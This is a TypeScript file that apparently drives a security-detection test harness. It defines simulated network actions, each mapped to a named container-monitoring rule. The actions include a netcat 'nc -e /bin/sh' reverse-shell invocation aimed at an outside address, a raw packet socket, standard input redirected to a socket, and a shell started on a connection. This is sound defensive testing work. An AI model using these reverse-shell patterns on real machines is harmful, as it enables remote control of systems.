// Actions on the network. Connections stay within the machine where the place permits that.

import type { Action } from './action.ts';
import { OUTSIDE } from './addresses.ts';
import { AF_INET, AF_PACKET, SOCK_DGRAM, SOCK_RAW } from './numbers.ts';
import { become, connectTo, pretend, type Step } from './steps.ts';

/** A connection to a port of its own network that nobody listens at: UDP does not mind. */
export const CONNECTION: readonly Step[] = [
  ['socket', AF_INET, SOCK_DGRAM, 0],
  ['connect', 'r0', 'in:127.0.0.1:9', 'len'],
];

/** The connection as standard input from the start: no call duplicates it. */
export const INPUT_FROM_CONNECTION: readonly Step[] = [
  ['close', 0],
  ['socket', AF_INET, SOCK_DGRAM, 0],
  ['connect', 0, 'in:127.0.0.1:9', 'len'],
];

export const NETWORK_ACTIONS: readonly Action[] = [
  {
    name: 'run-netcat-with-shell',
    description: 'runs a program called nc with the option to run a shell',
    where: 'container',
    rules: ['Netcat Remote Code Execution in Container'],
    steps: ({ directory, marker }) => [pretend(directory, 'nc', '-e', '/bin/sh', OUTSIDE, '22', marker)],
  },
  {
    name: 'open-packet-socket',
    description: 'makes a packet socket',
    where: 'container',
    rules: ['Packet socket created in container'],
    steps: () => [['socket', AF_PACKET, SOCK_RAW, 0x300]],
  },
  {
    name: 'redirect-input-to-connection',
    description: 'makes a connection its standard input',
    where: 'container',
    rules: ['Redirect STDOUT/STDIN to Network Connection in Container'],
    ownRules: ['Standard streams redirected to a connection'],
    steps: () => [...CONNECTION, ['dup3', 'r0', 0, 0]],
  },
  {
    name: 'start-shell-on-connection',
    description: 'starts a shell whose standard input is a connection',
    where: 'any',
    rules: [],
    ownRules: ['Shell started on a connection'],
    steps: ({ directory }) => [...INPUT_FROM_CONNECTION, become(directory, 'sh')],
  },
  {
    name: 'connect-ssh-to-odd-port',
    description: `connects to ${OUTSIDE} port 443, from a process called ssh`,
    where: 'any',
    rules: ['Disallowed SSH Connection Non Standard Port'],
    steps: ({ directory }) => [become(directory, 'ssh'), ...connectTo(OUTSIDE, 443)],
  },
];
